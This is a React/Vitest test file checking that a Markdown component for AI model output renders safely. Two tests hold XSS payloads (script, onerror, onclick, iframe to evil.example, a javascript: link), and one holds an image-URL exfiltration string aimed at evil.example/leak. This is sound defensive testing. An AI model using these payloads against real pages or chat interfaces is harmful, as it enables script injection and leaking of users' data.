import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

function renderMarkdown(text: string) {
  return render(<Markdown text={text} />).container;
}

describe('Markdown', () => {
  it('renders Markdown: headings, lists, emphasis, tables (GFM)', () => {
    const root = renderMarkdown('# Title\n\n- **one**\n- _two_\n\n| a | b |\n| - | - |\n| 1 | 2 |\n');
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect([...root.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two']);
    expect(root.querySelector('strong')?.textContent).toBe('one');
    expect(root.querySelector('table td')?.textContent).toBe('1');
  });

  it('highlights a fenced code block that names its language', () => {
    const root = renderMarkdown('```ts\nconst answer: number = 42; // the answer\n```');
    const code = root.querySelector('pre > code');
    expect(code?.classList.contains('hljs')).toBe(true);
    expect(code?.classList.contains('language-ts')).toBe(true);
    expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(code?.querySelector('.hljs-number')?.textContent).toBe('42');
    expect(code?.querySelector('.hljs-comment')?.textContent).toBe('// the answer');
    expect(code?.textContent).toBe('const answer: number = 42; // the answer\n');
  });

  it('shows a code block without a language as plain code', () => {
    const root = renderMarkdown('```\n<b>not bold</b>\n```');
    expect(root.querySelector('pre > code')?.textContent).toBe('<b>not bold</b>\n');
    expect(root.querySelector('b')).toBeNull();
  });

  it('shows HTML in the model output as text, never as HTML', () => {
    const attack = [
      '<script>window.__pwned = true</script>',
      '',
      'Look: <img src="x" onerror="window.__pwned = true"> and <b onclick="alert(1)">bold</b>',
      '',
      '<iframe src="https://evil.example"></iframe>',
    ].join('\n');
    const root = renderMarkdown(attack);
    expect(root.querySelector('script, img, iframe, b, [onerror], [onclick]')).toBeNull();
    expect(root.textContent).toContain('<script>window.__pwned = true</script>');
    expect(root.textContent).toContain('<img src="x" onerror="window.__pwned = true">');
    expect(root.textContent).toContain('<iframe src="https://evil.example"></iframe>');
    expect((window as unknown as { __pwned?: boolean }).__pwned).toBeUndefined();
  });

  it('drops javascript: links and opens the others in a new tab without the opener', () => {
    const root = renderMarkdown('[safe](https://example.com) [bad](javascript:alert(1))');
    const links = [...root.querySelectorAll('a')];
    expect(links[0]?.getAttribute('href')).toBe('https://example.com');
    expect(links[0]?.getAttribute('target')).toBe('_blank');
    expect(links[0]?.getAttribute('rel')).toContain('noopener');
    expect(links.some((link) => link.getAttribute('href')?.startsWith('javascript:'))).toBe(false);
  });

  it('does not load images the model names (a link instead)', () => {
    const root = renderMarkdown('![secret](https://evil.example/leak?data=123)');
    expect(root.querySelector('img')).toBeNull();
    const link = root.querySelector('a');
    expect(link?.textContent).toBe('Image: secret');
    expect(link?.getAttribute('href')).toBe('https://evil.example/leak?data=123');
  });

  it('renders a half-written answer without breaking (an unclosed code fence)', () => {
    const root = renderMarkdown('Here:\n\n```python\ndef f(x):\n    return');
    expect(root.querySelector('pre > code.language-python')?.textContent).toContain('def f(x):');
  });
});
